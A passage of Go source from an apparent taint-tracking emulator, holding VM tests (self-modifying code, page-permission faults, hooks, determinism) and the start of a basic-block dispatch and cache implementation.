// condTaken evaluates a conditional branch against the flags.
func (m *Machine) condTaken(op isa.Op) bool {
	return isa.CondTaken(op, m.CPU.Flags.Z, m.CPU.Flags.S)
}

// Run executes up to maxSteps instructions or until a non-none trap.
// It returns the trap and the number of instructions retired.
func (m *Machine) Run(maxSteps uint64) (Trap, uint64, error) {
	var n uint64
	for n < maxSteps {
		trap, err := m.Step()
		if err != nil {
			return trap, n, err
		}
		n++
		if trap != TrapNone {
			return trap, n, nil
		}
	}
	return TrapNone, n, nil
}

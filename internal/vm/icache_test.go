package vm

import (
	"testing"

	"faros/internal/isa"
	"faros/internal/mem"
)

// TestSelfModifyingCode verifies the decoded-instruction cache invalidates
// on guest stores: a program patches an upcoming instruction and must
// execute the patched version, not the cached decode.
func TestSelfModifyingCode(t *testing.T) {
	b := isa.NewBlock()
	// Run the target once so it is decoded and cached.
	b.Call("target")
	// Patch target's immediate from 1 to 42: the imm byte lives at
	// target+4.
	b.MoviLabel(isa.EBX, "target")
	b.Addi(isa.EBX, codeBase)
	b.Movi(isa.ECX, 42)
	b.Stb(isa.EBX, 4, isa.ECX)
	b.Call("target")
	b.Hlt()
	b.Label("target")
	b.Movi(isa.EAX, 1)
	b.Ret()

	// Code must be writable for the patch: map RWX.
	phys := mem.NewPhys()
	space := mem.NewSpace(phys, 1)
	code := b.MustAssemble(codeBase)
	if err := space.Map(codeBase, mem.PagesSpanned(codeBase, uint32(len(code))), mem.PermRWX); err != nil {
		t.Fatal(err)
	}
	if err := space.WriteBytes(codeBase, code); err != nil {
		t.Fatal(err)
	}
	if err := space.Map(stackBase, 1, mem.PermRW); err != nil {
		t.Fatal(err)
	}
	m := New(phys)
	m.SetSpace(space)
	m.CPU.EIP = codeBase
	m.CPU.Regs[isa.ESP] = stackTop

	trap, _, err := m.Run(100)
	if err != nil || trap != TrapHalt {
		t.Fatalf("trap=%v err=%v", trap, err)
	}
	if got := m.CPU.Regs[isa.EAX]; got != 42 {
		t.Errorf("EAX = %d, want 42 (stale icache?)", got)
	}
}

// TestKernelWriteInvalidation mirrors cross-process injection: bytes
// written behind the CPU's back via InvalidateFrame must decode fresh.
func TestKernelWriteInvalidation(t *testing.T) {
	b := isa.NewBlock()
	b.Label("probe").Movi(isa.EAX, 7).Hlt()
	phys := mem.NewPhys()
	space := mem.NewSpace(phys, 1)
	code := b.MustAssemble(codeBase)
	if err := space.Map(codeBase, 1, mem.PermRX); err != nil {
		t.Fatal(err)
	}
	frame, _ := space.FrameOf(codeBase)
	f, _ := phys.Frame(frame)
	copy(f[:], code)

	m := New(phys)
	m.SetSpace(space)
	m.CPU.EIP = codeBase
	if trap, _, err := m.Run(10); err != nil || trap != TrapHalt {
		t.Fatalf("first run: %v %v", trap, err)
	}
	if m.CPU.Regs[isa.EAX] != 7 {
		t.Fatal("first run wrong")
	}

	// Privileged overwrite (like WriteProcessMemory), then invalidate.
	patched := isa.NewBlock().Movi(isa.EAX, 99).Hlt().MustAssemble(codeBase)
	copy(f[:], patched)
	m.InvalidateFrame(frame)
	m.CPU.EIP = codeBase
	if trap, _, err := m.Run(10); err != nil || trap != TrapHalt {
		t.Fatalf("second run: %v %v", trap, err)
	}
	if got := m.CPU.Regs[isa.EAX]; got != 99 {
		t.Errorf("EAX = %d, want 99 (kernel write not visible)", got)
	}
}

// TestFetchRespectsProtectAfterCache verifies the TLB generation check:
// removing exec permission must fault even for previously cached pages.
func TestFetchRespectsProtectAfterCache(t *testing.T) {
	b := isa.NewBlock()
	b.Label("top").Nop().Jmp("top")
	phys := mem.NewPhys()
	space := mem.NewSpace(phys, 1)
	code := b.MustAssemble(codeBase)
	if err := space.Map(codeBase, 1, mem.PermRX); err != nil {
		t.Fatal(err)
	}
	frame, _ := space.FrameOf(codeBase)
	f, _ := phys.Frame(frame)
	copy(f[:], code)

	m := New(phys)
	m.SetSpace(space)
	m.CPU.EIP = codeBase
	if _, _, err := m.Run(10); err != nil {
		t.Fatal(err)
	}
	if err := space.Protect(codeBase, 1, mem.PermRead); err != nil {
		t.Fatal(err)
	}
	trap, _, err := m.Run(10)
	if trap != TrapFault || err == nil {
		t.Errorf("exec after Protect: trap=%v err=%v", trap, err)
	}
}

package vm

import (
	"strings"
	"testing"

	"faros/internal/isa"
	"faros/internal/mem"
)

const (
	codeBase  = 0x00010000
	dataBase  = 0x00020000
	stackTop  = 0x00031000
	stackBase = 0x00030000
)

// newTestMachine maps code at codeBase, 4 pages of data at dataBase, and a
// stack page, then loads the assembled block.
func newTestMachine(t *testing.T, b *isa.Block) *Machine {
	t.Helper()
	phys := mem.NewPhys()
	space := mem.NewSpace(phys, 0xC0DE)
	code, err := b.Assemble(codeBase)
	if err != nil {
		t.Fatal(err)
	}
	codePages := mem.PagesSpanned(codeBase, uint32(len(code)))
	if err := space.Map(codeBase, codePages, mem.PermRX); err != nil {
		t.Fatal(err)
	}
	// Write through a temporary RW view: code pages are r-x.
	for i, by := range code {
		pa, err := space.Translate(codeBase+uint32(i), mem.AccessRead)
		if err != nil {
			t.Fatal(err)
		}
		if err := phys.WriteByteAt(pa, by); err != nil {
			t.Fatal(err)
		}
	}
	if err := space.Map(dataBase, 4, mem.PermRW); err != nil {
		t.Fatal(err)
	}
	if err := space.Map(stackBase, 1, mem.PermRW); err != nil {
		t.Fatal(err)
	}
	m := New(phys)
	m.SetSpace(space)
	m.CPU.EIP = codeBase
	m.CPU.Regs[isa.ESP] = stackTop
	return m
}

func runToHalt(t *testing.T, m *Machine, maxSteps uint64) {
	t.Helper()
	trap, _, err := m.Run(maxSteps)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if trap != TrapHalt {
		t.Fatalf("trap = %v, want halt", trap)
	}
}

func TestArithmeticAndFlags(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EAX, 10).Movi(isa.EBX, 3)
	b.Add(isa.EAX, isa.EBX)         // 13
	b.Muli(isa.EAX, 2)              // 26
	b.Subi(isa.EAX, 1)              // 25
	b.Shli(isa.EAX, 2)              // 100
	b.Shri(isa.EAX, 1)              // 50
	b.Xori(isa.EAX, 0xFF)           // 50^255 = 205
	b.Andi(isa.EAX, 0xF0)           // 192
	b.Ori(isa.EAX, 0x05)            // 197
	b.Movi(isa.ECX, 0).Not(isa.ECX) // 0xFFFFFFFF
	b.Hlt()
	m := newTestMachine(t, b)
	runToHalt(t, m, 100)
	if got := m.CPU.Regs[isa.EAX]; got != 197 {
		t.Errorf("EAX = %d, want 197", got)
	}
	if got := m.CPU.Regs[isa.ECX]; got != 0xFFFFFFFF {
		t.Errorf("ECX = %#x", got)
	}
}

func TestLoadsAndStores(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EBX, dataBase)
	b.Movi(isa.EAX, 0x11223344)
	b.St(isa.EBX, 0, isa.EAX)
	b.Ldb(isa.ECX, isa.EBX, 1) // 0x33 on little endian? byte1 = 0x33
	b.Movi(isa.EDX, 2)
	b.LdbIdx(isa.ESI, isa.EBX, isa.EDX) // byte2 = 0x22
	b.Stb(isa.EBX, 8, isa.ESI)
	b.Ld(isa.EDI, isa.EBX, 8) // 0x00000022
	b.Hlt()
	m := newTestMachine(t, b)
	runToHalt(t, m, 100)
	if got := m.CPU.Regs[isa.ECX]; got != 0x33 {
		t.Errorf("LDB = %#x, want 0x33", got)
	}
	if got := m.CPU.Regs[isa.EDI]; got != 0x22 {
		t.Errorf("round-trip byte = %#x, want 0x22", got)
	}
}

func TestConditionalBranches(t *testing.T) {
	// Compute sum 1..5 with a loop.
	b := isa.NewBlock()
	b.Movi(isa.EAX, 0).Movi(isa.ECX, 1)
	b.Label("loop")
	b.Cmpi(isa.ECX, 5)
	b.Jg("done")
	b.Add(isa.EAX, isa.ECX)
	b.Addi(isa.ECX, 1)
	b.Jmp("loop")
	b.Label("done").Hlt()
	m := newTestMachine(t, b)
	runToHalt(t, m, 200)
	if got := m.CPU.Regs[isa.EAX]; got != 15 {
		t.Errorf("sum = %d, want 15", got)
	}
}

func TestSignedComparisons(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EAX, 0xFFFFFFFF) // -1
	b.Cmpi(isa.EAX, 1)
	b.Jl("less")
	b.Movi(isa.EBX, 0).Jmp("end")
	b.Label("less").Movi(isa.EBX, 1)
	b.Label("end").Hlt()
	m := newTestMachine(t, b)
	runToHalt(t, m, 50)
	if m.CPU.Regs[isa.EBX] != 1 {
		t.Error("-1 < 1 not taken as signed")
	}
}

func TestCallRetAndStack(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EAX, 7)
	b.Call("double")
	b.Push(isa.EAX)
	b.Pop(isa.EBX)
	b.Hlt()
	b.Label("double")
	b.Add(isa.EAX, isa.EAX)
	b.Ret()
	m := newTestMachine(t, b)
	runToHalt(t, m, 50)
	if m.CPU.Regs[isa.EBX] != 14 {
		t.Errorf("EBX = %d, want 14", m.CPU.Regs[isa.EBX])
	}
	if m.CPU.Regs[isa.ESP] != stackTop {
		t.Errorf("ESP = %#x, want %#x (balanced)", m.CPU.Regs[isa.ESP], uint32(stackTop))
	}
}

func TestCallThroughRegister(t *testing.T) {
	b := isa.NewBlock()
	b.MoviLabel(isa.ESI, "fn")
	b.Addi(isa.ESI, codeBase) // label offset → absolute
	b.CallReg(isa.ESI)
	b.Hlt()
	b.Label("fn").Movi(isa.EAX, 0x77).Ret()
	m := newTestMachine(t, b)
	runToHalt(t, m, 50)
	if m.CPU.Regs[isa.EAX] != 0x77 {
		t.Errorf("EAX = %#x", m.CPU.Regs[isa.EAX])
	}
}

func TestGetPCIdiom(t *testing.T) {
	b := isa.NewBlock()
	b.GetPC(isa.EAX) // EAX = address of the POP = codeBase + 8
	b.Hlt()
	m := newTestMachine(t, b)
	runToHalt(t, m, 10)
	if got := m.CPU.Regs[isa.EAX]; got != codeBase+8 {
		t.Errorf("GetPC = %#x, want %#x", got, uint32(codeBase+8))
	}
}

// TestFigure1LookupTable runs the paper's Figure 1 address-dependency
// example: str2[j] = lookuptable[str1[j]].
func TestFigure1LookupTable(t *testing.T) {
	const (
		table = dataBase         // 256-byte identity table
		str1  = dataBase + 0x400 // source string
		str2  = dataBase + 0x500 // destination
		n     = 14               // len("Tainted string")
	)
	b := isa.NewBlock()
	// Build identity lookup table.
	b.Movi(isa.ECX, 0)
	b.Movi(isa.EBX, table)
	b.Label("init")
	b.Cmpi(isa.ECX, 256)
	b.Jge("copy")
	b.StbIdx(isa.EBX, isa.ECX, isa.ECX)
	b.Addi(isa.ECX, 1)
	b.Jmp("init")
	// Copy via table: for j in 0..n: str2[j] = table[str1[j]].
	b.Label("copy")
	b.Movi(isa.ECX, 0)
	b.Label("loop")
	b.Cmpi(isa.ECX, n)
	b.Jge("done")
	b.Movi(isa.ESI, str1)
	b.LdbIdx(isa.EAX, isa.ESI, isa.ECX) // EAX = str1[j]
	b.Movi(isa.ESI, table)
	b.LdbIdx(isa.EDX, isa.ESI, isa.EAX) // EDX = table[str1[j]]  (address dep)
	b.Movi(isa.ESI, str2)
	b.StbIdx(isa.ESI, isa.ECX, isa.EDX)
	b.Addi(isa.ECX, 1)
	b.Jmp("loop")
	b.Label("done").Hlt()

	m := newTestMachine(t, b)
	if err := m.Space().WriteBytes(str1, []byte("Tainted string")); err != nil {
		t.Fatal(err)
	}
	runToHalt(t, m, 10000)
	got, err := m.Space().ReadBytes(str2, n, mem.AccessRead)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "Tainted string" {
		t.Errorf("str2 = %q", got)
	}
}

// TestFigure2BitByBitCopy runs the paper's Figure 2 control-dependency
// example: copy a byte one bit at a time through if statements.
func TestFigure2BitByBitCopy(t *testing.T) {
	const (
		in  = dataBase
		out = dataBase + 4
	)
	b := isa.NewBlock()
	b.Movi(isa.EBX, in)
	b.Ldb(isa.EAX, isa.EBX, 0) // tainted input
	b.Movi(isa.EDX, 0)         // untainted output
	b.Movi(isa.ECX, 1)         // bit
	b.Label("loop")
	b.Cmpi(isa.ECX, 256)
	b.Jge("done")
	b.Mov(isa.ESI, isa.EAX)
	b.And(isa.ESI, isa.ECX)
	b.Cmpi(isa.ESI, 0)
	b.Jz("skip")
	b.Or(isa.EDX, isa.ECX) // untaintedoutput |= bit
	b.Label("skip")
	b.Shli(isa.ECX, 1)
	b.Jmp("loop")
	b.Label("done")
	b.Movi(isa.EBX, out)
	b.Stb(isa.EBX, 0, isa.EDX)
	b.Hlt()

	m := newTestMachine(t, b)
	if err := m.Space().WriteByteAt(in, 0xA7); err != nil {
		t.Fatal(err)
	}
	runToHalt(t, m, 1000)
	got, err := m.Space().ReadByteAt(out, mem.AccessRead)
	if err != nil {
		t.Fatal(err)
	}
	if got != 0xA7 {
		t.Errorf("bit-copied byte = %#x, want 0xA7", got)
	}
}

func TestSyscallTrap(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EAX, 42).Syscall().Movi(isa.EBX, 1).Hlt()
	m := newTestMachine(t, b)
	trap, _, err := m.Run(10)
	if err != nil || trap != TrapSyscall {
		t.Fatalf("trap = %v, err %v", trap, err)
	}
	if m.CPU.Regs[isa.EAX] != 42 {
		t.Error("syscall number lost")
	}
	// Kernel would handle it; resuming continues after the SYSCALL.
	trap, _, err = m.Run(10)
	if err != nil || trap != TrapHalt {
		t.Fatalf("resume trap = %v, err %v", trap, err)
	}
	if m.CPU.Regs[isa.EBX] != 1 {
		t.Error("execution did not resume after syscall")
	}
}

func TestFaultOnWriteToCode(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EBX, codeBase)
	b.Movi(isa.EAX, 1)
	b.St(isa.EBX, 0, isa.EAX) // code is r-x
	b.Hlt()
	m := newTestMachine(t, b)
	trap, _, err := m.Run(10)
	if trap != TrapFault || err == nil {
		t.Fatalf("trap = %v, err = %v", trap, err)
	}
	if !strings.Contains(err.Error(), "permission") {
		t.Errorf("unexpected fault: %v", err)
	}
	// EIP must still point at the faulting store (third instruction).
	if m.CPU.EIP != codeBase+2*isa.InstrSize {
		t.Errorf("EIP = %#x", m.CPU.EIP)
	}
}

func TestFaultOnExecData(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EBX, dataBase).JmpReg(isa.EBX)
	m := newTestMachine(t, b)
	trap, _, err := m.Run(10)
	if trap != TrapFault || err == nil {
		t.Fatalf("jump to rw- data: trap=%v err=%v", trap, err)
	}
}

func TestFaultOnUnmapped(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EBX, 0x66660000).Ld(isa.EAX, isa.EBX, 0)
	m := newTestMachine(t, b)
	trap, _, err := m.Run(10)
	if trap != TrapFault || err == nil {
		t.Fatalf("unmapped load: trap=%v err=%v", trap, err)
	}
}

func TestHooksFire(t *testing.T) {
	b := isa.NewBlock()
	b.Movi(isa.EBX, dataBase)
	b.Movi(isa.EAX, 5)
	b.St(isa.EBX, 0, isa.EAX)
	b.Ld(isa.ECX, isa.EBX, 0)
	b.Hlt()
	m := newTestMachine(t, b)
	var before, after, reads, writes int
	var writePA mem.PhysAddr
	m.OnBeforeInstr(func(_ *Machine, _ uint32, _ isa.Instruction) { before++ })
	m.OnAfterInstr(func(_ *Machine, _ uint32, _ isa.Instruction) { after++ })
	m.OnMemRead(func(_ *Machine, _ uint32, _ isa.Instruction, _ uint32, _ mem.PhysAddr, _ int) { reads++ })
	m.OnMemWrite(func(_ *Machine, _ uint32, in isa.Instruction, va uint32, pa mem.PhysAddr, size int) {
		writes++
		writePA = pa
		if va != dataBase || size != 4 || in.Op != isa.OpSt {
			t.Errorf("write hook: va=%#x size=%d op=%v", va, size, in.Op)
		}
	})
	runToHalt(t, m, 10)
	if before != 5 || after != 5 {
		t.Errorf("instr hooks: before=%d after=%d", before, after)
	}
	if reads != 1 || writes != 1 {
		t.Errorf("mem hooks: reads=%d writes=%d", reads, writes)
	}
	wantPA, _ := m.Space().Translate(dataBase, mem.AccessRead)
	if writePA != wantPA {
		t.Errorf("write pa = %#x, want %#x", writePA, wantPA)
	}
	if m.HookCount() != 4 {
		t.Errorf("HookCount = %d", m.HookCount())
	}
}

func TestEffectiveAddr(t *testing.T) {
	cpu := &CPU{}
	cpu.Regs[isa.EBX] = 0x1000
	cpu.Regs[isa.ECX] = 0x20
	cpu.Regs[isa.ESP] = 0x8000
	tests := []struct {
		in   isa.Instruction
		want uint32
		ok   bool
	}{
		{isa.Instruction{Op: isa.OpLd, Mode: isa.ModeRM, Dst: isa.EAX, Src: isa.EBX, Imm: 8}, 0x1008, true},
		{isa.Instruction{Op: isa.OpLd, Mode: isa.ModeRX, Dst: isa.EAX, Src: isa.EBX, Imm: uint32(isa.ECX)}, 0x1020, true},
		{isa.Instruction{Op: isa.OpSt, Mode: isa.ModeMR, Dst: isa.EBX, Src: isa.EAX, Imm: 4}, 0x1004, true},
		{isa.Instruction{Op: isa.OpPush, Mode: isa.ModeRR, Dst: isa.EAX}, 0x7FFC, true},
		{isa.Instruction{Op: isa.OpPop, Mode: isa.ModeRR, Dst: isa.EAX}, 0x8000, true},
		{isa.Instruction{Op: isa.OpMov, Mode: isa.ModeRR, Dst: isa.EAX, Src: isa.EBX}, 0, false},
	}
	for _, tc := range tests {
		got, ok := EffectiveAddr(cpu, tc.in)
		if got != tc.want || ok != tc.ok {
			t.Errorf("EffectiveAddr(%v) = %#x,%v want %#x,%v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

func TestInstrCountAdvances(t *testing.T) {
	b := isa.NewBlock()
	b.Nop().Nop().Nop().Hlt()
	m := newTestMachine(t, b)
	runToHalt(t, m, 10)
	if m.InstrCount != 4 {
		t.Errorf("InstrCount = %d, want 4", m.InstrCount)
	}
}

func TestDeterminism(t *testing.T) {
	// Two identical machines must retire identical states.
	build := func() *Machine {
		b := isa.NewBlock()
		b.Movi(isa.EAX, 1)
		b.Label("l").Addi(isa.EAX, 3).Muli(isa.EAX, 5).Cmpi(isa.EAX, 1000000).Jl("l").Hlt()
		phys := mem.NewPhys()
		space := mem.NewSpace(phys, 1)
		code := b.MustAssemble(codeBase)
		_ = space.Map(codeBase, mem.PagesSpanned(codeBase, uint32(len(code))), mem.PermRWX)
		_ = space.WriteBytes(codeBase, code)
		m := New(phys)
		m.SetSpace(space)
		m.CPU.EIP = codeBase
		return m
	}
	m1, m2 := build(), build()
	t1, n1, err1 := m1.Run(100000)
	t2, n2, err2 := m2.Run(100000)
	if t1 != t2 || n1 != n2 || (err1 == nil) != (err2 == nil) {
		t.Fatalf("divergence: %v/%d vs %v/%d", t1, n1, t2, n2)
	}
	if m1.CPU != m2.CPU {
		t.Errorf("CPU state diverged: %+v vs %+v", m1.CPU, m2.CPU)
	}
}

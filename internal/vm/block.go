// Block dispatch: the interpreter's hot path. Guest code is predecoded
// into cached basic blocks of micro-ops (internal/isa lowering, decode done
// once), keyed by physical frame + offset so shared images (ntdll) are
// lowered once system-wide. Dispatching a block costs one lookup and one
// plugin call instead of a fetch, a decode, and an interface call per
// instruction.
//
// Invalidation rides the signals that already feed the icache: every guest
// store and kernel copy calls InvalidateFrame, which drops the frame's
// blocks and bumps the block epoch. The executors snapshot the epoch and
// compare it after every store micro-op, so self-modifying code stops the
// current block at the mutating instruction and re-enters through a fresh
// build — the same observable behavior as per-instruction stepping.
//
// The per-instruction Step path is retained unchanged as the reference
// interpreter: legacy hooks, non-block plugins, quantum tails shorter than
// the next block, and SetBlockDispatch(false) all fall back to it, and the
// differential tests hold the two bit-identical.

package vm

import (
	"encoding/binary"

	"faros/internal/isa"
	"faros/internal/mem"
	"faros/internal/taint"
)

// Block is one predecoded basic block: the instructions from a branch
// target (or fall-through page entry) to the next control transfer,
// syscall, halt, undecodable slot, or page end — whichever comes first.
// Blocks never span pages, so one frame invalidation drops every block
// built over the mutated bytes.
type Block struct {
	// Frame and Off key the block: physical frame and byte offset of the
	// first instruction.
	Frame uint32
	Off   uint32
	// Ins are the decoded architectural instructions, in order. The engine
	// needs the originals for disassembly in findings.
	Ins []isa.Instruction
	// Uops is the lowered micro-op stream (see internal/isa).
	Uops []isa.Uop
	// NInstr is len(Ins): the architectural instructions the block retires.
	NInstr int
	// Fused counts superinstructions in Uops.
	Fused int
	// EndTrap is the trap raised after the block completes: TrapSyscall or
	// TrapHalt when the terminator is SYSCALL/HLT, TrapNone otherwise.
	EndTrap Trap
	// Eff is the block-level taint effect summary (internal/taint).
	Eff taint.BlockEffects
}

// BlockPlugin is the block-level upgrade of InstrPlugin. An engine that
// implements it receives whole predecoded blocks and runs its analysis
// fused into the dispatch loop instead of being called back per
// instruction. ExecBlock executes the given block (which starts at the
// current EIP) and may then chain into successor blocks via LookupBlock,
// up to budget retired instructions in total — one plugin call per chain,
// not per block. It returns the instructions retired plus the trap state
// of the last one, exactly as a sequence of Steps would have; ok=false
// declines the first block untouched, and the VM falls back to the
// per-instruction reference path. Returning TrapNone with budget left
// simply means the chain ended at a PC block dispatch cannot serve (or a
// partial retire after self-modifying code); the VM re-enters at the new
// EIP.
type BlockPlugin interface {
	InstrPlugin
	ExecBlock(m *Machine, b *Block, budget uint64) (retired uint64, trap Trap, err error, ok bool)
}

// BlockStats counts block-cache activity.
type BlockStats struct {
	// Built counts blocks decoded and lowered.
	Built uint64
	// Hits counts dispatches served from the cache.
	Hits uint64
	// Invalidated counts frames whose cached blocks were dropped.
	Invalidated uint64
	// FusedOps counts superinstructions retired by the plain block
	// executor (an attached engine counts its own executions separately).
	FusedOps uint64
}

// blockPage holds the cached blocks of one physical frame, indexed by
// instruction slot like the icache.
type blockPage struct {
	blocks [icacheSlots]*Block
}

// blockTLB is a one-entry TLB for block lookup: the current code page's
// blockPage. vpn doubles as the valid bit (invalidVPN = invalid).
type blockTLB struct {
	gen   uint64
	vpn   uint32
	frame uint32
	page  *blockPage
}

// unbuildable marks a slot whose first instruction does not decode; the
// per-instruction path raises the architectural fault.
var unbuildable = &Block{}

// SetBlockDispatch enables or disables block dispatch (default enabled).
// The differential tests disable it to drive the per-instruction reference
// path.
func (m *Machine) SetBlockDispatch(on bool) { m.blocksOff = !on }

// BlockStats returns the block-cache counters.
func (m *Machine) BlockStats() BlockStats { return m.bstats }

// BlocksBuilt returns the monotone count of blocks ever built. Engines
// caching "this frame has no blocks" use it as the staleness signal: an
// unchanged count means no block was built anywhere since, so a frame
// proven block-free (by invalidating it) is still block-free and stores to
// it can skip InvalidateFrame.
func (m *Machine) BlocksBuilt() uint64 { return m.bstats.Built }

// BlockEpoch counts block invalidations. Block executors snapshot it and
// compare after stores: a change means cached blocks (possibly the running
// one) were built over bytes that no longer exist.
func (m *Machine) BlockEpoch() uint64 { return m.blockEpoch }

// AddFusedOps charges n retired superinstructions to the block counters on
// behalf of an attached block engine.
func (m *Machine) AddFusedOps(n uint64) { m.bstats.FusedOps += n }

// RunBlock executes up to budget instructions, chaining predecoded blocks
// until the budget runs out, a trap or fault ends the run, or dispatch has
// to fall back to per-instruction mode. Chaining is transparent to the
// caller: a sequence of single-block calls would retire the same
// instructions in the same order, the loop just keeps the dispatch state
// hot instead of bouncing through the scheduler between every block. It
// returns the instructions retired and the trap state of the last one.
// When block dispatch cannot serve the current PC at all, it runs exactly
// one per-instruction Step. budget must be at least 1.
func (m *Machine) RunBlock(budget uint64) (uint64, Trap, error) {
	if budget == 0 {
		return 0, TrapNone, nil
	}
	if m.blocksOff || m.legacyHooks || m.space == nil ||
		(m.plugin != nil && m.blockPlugin == nil) {
		return m.stepOnce()
	}
	b := m.lookupBlock(m.CPU.EIP)
	if b == nil || uint64(b.NInstr) > budget {
		// No block here (unaligned PC, undecodable slot, unmapped page) or
		// the preemption budget boundary lands inside the block: fall back
		// to per-instruction mode.
		return m.stepOnce()
	}
	if bp := m.blockPlugin; bp != nil {
		// The plugin chains internally; one call covers up to the whole
		// budget.
		n, trap, err, ok := bp.ExecBlock(m, b, budget)
		if !ok {
			return m.stepOnce()
		}
		return n, trap, err
	}
	var total uint64
	for {
		n, trap, err := m.execBlockPlain(b)
		total += n
		budget -= n
		if trap != TrapNone || err != nil || budget == 0 {
			return total, trap, err
		}
		if b = m.lookupBlock(m.CPU.EIP); b == nil || uint64(b.NInstr) > budget {
			return total, TrapNone, nil
		}
	}
}

// LookupBlock returns the cached block starting at pc, building it on
// first sight; nil means block dispatch cannot serve that PC. Exported for
// chaining block plugins.
func (m *Machine) LookupBlock(pc uint32) *Block { return m.lookupBlock(pc) }

// stepOnce adapts Step to RunBlock's retired-count contract.
func (m *Machine) stepOnce() (uint64, Trap, error) {
	trap, err := m.Step()
	if err != nil {
		return 0, trap, err
	}
	return 1, trap, nil
}

// lookupBlock returns the cached block starting at pc, building it on
// first sight. nil means "no block: use Step" (unaligned, unmapped, or
// undecodable entry).
func (m *Machine) lookupBlock(pc uint32) *Block {
	if pc%isa.InstrSize != 0 {
		return nil
	}
	t := &m.btlb
	if !(t.vpn == pc>>mem.PageShift && t.gen == m.space.Gen()) {
		pa, err := m.space.Translate(pc, mem.AccessExec)
		if err != nil {
			return nil
		}
		frame := pa.Frame()
		for int(frame) >= len(m.blocks) {
			m.blocks = append(m.blocks, nil)
		}
		bp := m.blocks[frame]
		if bp == nil {
			bp = &blockPage{}
			m.blocks[frame] = bp
		}
		t.gen, t.vpn, t.frame, t.page = m.space.Gen(), pc>>mem.PageShift, frame, bp
	}
	slot := pc % mem.PageSize / isa.InstrSize
	b := t.page.blocks[slot]
	if b == nil {
		b = m.buildBlock(t.frame, pc%mem.PageSize)
		t.page.blocks[slot] = b
	} else if b != unbuildable {
		m.bstats.Hits++
	}
	if b == unbuildable {
		return nil
	}
	return b
}

// buildBlock decodes and lowers the basic block starting at (frame, off).
func (m *Machine) buildBlock(frame, off uint32) *Block {
	f, err := m.phys.Frame(frame)
	if err != nil {
		return unbuildable
	}
	b := &Block{Frame: frame, Off: off, EndTrap: TrapNone}
	for o := off; o <= mem.PageSize-isa.InstrSize; o += isa.InstrSize {
		in, err := isa.Decode(f[o : o+isa.InstrSize])
		if err != nil {
			break // the bad slot faults through the per-instruction path
		}
		b.Ins = append(b.Ins, in)
		// Conditional branches extend the block: the not-taken path falls
		// through to the next instruction on the same page, so lowering
		// continues and a taken branch becomes a mid-block side exit. Loops
		// whose body follows the exit test then execute one block per
		// iteration instead of two. Unconditional transfers (and traps)
		// still end the block.
		if (in.Op.IsJump() && !in.Op.IsCondJump()) || in.Op == isa.OpSyscall || in.Op == isa.OpHlt {
			switch in.Op {
			case isa.OpSyscall:
				b.EndTrap = TrapSyscall
			case isa.OpHlt:
				b.EndTrap = TrapHalt
			}
			break
		}
	}
	if len(b.Ins) == 0 {
		return unbuildable
	}
	b.NInstr = len(b.Ins)
	b.Uops = isa.Lower(b.Ins)
	b.Eff = taint.SummarizeUops(b.Uops)
	for i := range b.Uops {
		if b.Uops[i].IsFused() {
			b.Fused++
		}
	}
	m.bstats.Built++
	return b
}

// ExecBlockPlain executes a whole block with no analysis attached — the
// taint-no-op dispatch loop. An attached engine also routes through it for
// blocks it has proven effect-free. Semantics match a Step sequence
// exactly: same register/flag/memory effects, same fault PCs and error
// values, same instruction counting.
func (m *Machine) ExecBlockPlain(b *Block) (uint64, Trap, error) {
	return m.execBlockPlain(b)
}

func (m *Machine) execBlockPlain(b *Block) (uint64, Trap, error) {
	regs := &m.CPU.Regs
	base := m.CPU.EIP
	epoch := m.blockEpoch
	uops := b.Uops
	var ii uint32 // architectural instructions retired so far
	for ui := range uops {
		u := &uops[ui]
		pc := base + ii*isa.InstrSize
		switch u.Kind {
		case isa.UNop:
		case isa.UMovRR:
			regs[u.A] = regs[u.B]
		case isa.UMovRI:
			regs[u.A] = u.Imm
		case isa.UAluRR:
			regs[u.A] = isa.EvalALU(u.Op, regs[u.A], regs[u.B])
		case isa.UAluRI:
			regs[u.A] = isa.EvalALU(u.Op, regs[u.A], u.Imm)
		case isa.UXorClear:
			regs[u.A] = 0
		case isa.UNot:
			regs[u.A] = ^regs[u.A]
		case isa.UCmpRR:
			a, v := regs[u.A], regs[u.B]
			m.CPU.Flags.Z, m.CPU.Flags.S = a == v, int32(a) < int32(v)
		case isa.UCmpRI:
			a := regs[u.A]
			m.CPU.Flags.Z, m.CPU.Flags.S = a == u.Imm, int32(a) < int32(u.Imm)
		case isa.ULoad:
			addr := regs[u.B] + u.Imm
			if u.C != isa.NoIdx {
				addr = regs[u.B] + regs[u.C]
			}
			var v uint32
			var err error
			if u.Size == 4 {
				v, _, err = m.rawRead32(addr)
			} else {
				v, _, err = m.rawRead8(addr)
			}
			if err != nil {
				return m.blockFault(ii, pc, err)
			}
			regs[u.A] = v
		case isa.UStore:
			addr := regs[u.B] + u.Imm
			if u.C != isa.NoIdx {
				addr = regs[u.B] + regs[u.C]
			}
			var err error
			if u.Size == 4 {
				_, err = m.rawWrite32(addr, regs[u.A])
			} else {
				_, err = m.rawWrite8(addr, byte(regs[u.A]))
			}
			if err != nil {
				return m.blockFault(ii, pc, err)
			}
			if m.blockEpoch != epoch {
				return m.blockCommit(ii+1, pc+isa.InstrSize, TrapNone, fusedIn(uops, ui+1))
			}
		case isa.UPush:
			v := u.Imm
			if u.D == 0 {
				v = regs[u.A]
			}
			regs[isa.ESP] -= 4
			if _, err := m.rawWrite32(regs[isa.ESP], v); err != nil {
				regs[isa.ESP] += 4
				return m.blockFault(ii, pc, err)
			}
			if m.blockEpoch != epoch {
				return m.blockCommit(ii+1, pc+isa.InstrSize, TrapNone, fusedIn(uops, ui+1))
			}
		case isa.UPop:
			v, _, err := m.rawRead32(regs[isa.ESP])
			if err != nil {
				return m.blockFault(ii, pc, err)
			}
			regs[isa.ESP] += 4
			regs[u.A] = v
		case isa.URet:
			v, _, err := m.rawRead32(regs[isa.ESP])
			if err != nil {
				return m.blockFault(ii, pc, err)
			}
